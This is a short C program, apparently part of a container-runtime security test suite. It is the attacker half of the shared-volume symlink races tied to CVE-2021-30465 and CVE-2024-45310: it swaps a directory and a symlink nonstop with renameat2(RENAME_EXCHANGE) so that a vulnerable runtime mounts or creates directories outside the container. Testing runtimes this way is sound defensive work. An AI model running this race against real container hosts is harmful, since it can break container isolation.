/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * rename-exchange: the attacker's half of the shared-volume races (CVE-2021-30465, CVE-2024-45310). Runs in a
 * container that shares a volume with the victim container, and swaps two names in it as fast as it can with
 * renameat2(RENAME_EXCHANGE): a real directory and a symlink that points where the runtime must never go.
 * A runtime that checks a path and then uses it again by name (instead of keeping the fd it checked) will, now
 * and then, create directories or mount through the symlink. Not a verdict-printing attack: it prints
 * "swapping" once, then runs until killed or until DIR/stop exists (checked every 65536 swaps).
 *
 *   rename-exchange DIR NAME1 NAME2
 */
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	if (argc != 4)
		attack_error("usage: rename-exchange DIR NAME1 NAME2");
	int dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		attack_error("open %s: %s", argv[1], errno_name(errno));
	puts("swapping");
	fflush(stdout);
	for (unsigned long i = 0;; i++) {
		if (renameat2(dfd, argv[2], dfd, argv[3], RENAME_EXCHANGE) < 0)
			attack_error("renameat2(RENAME_EXCHANGE): %s", errno_name(errno));
		if ((i & 0xffff) == 0 && faccessat(dfd, "stop", F_OK, 0) == 0)
			return 0;
	}
}
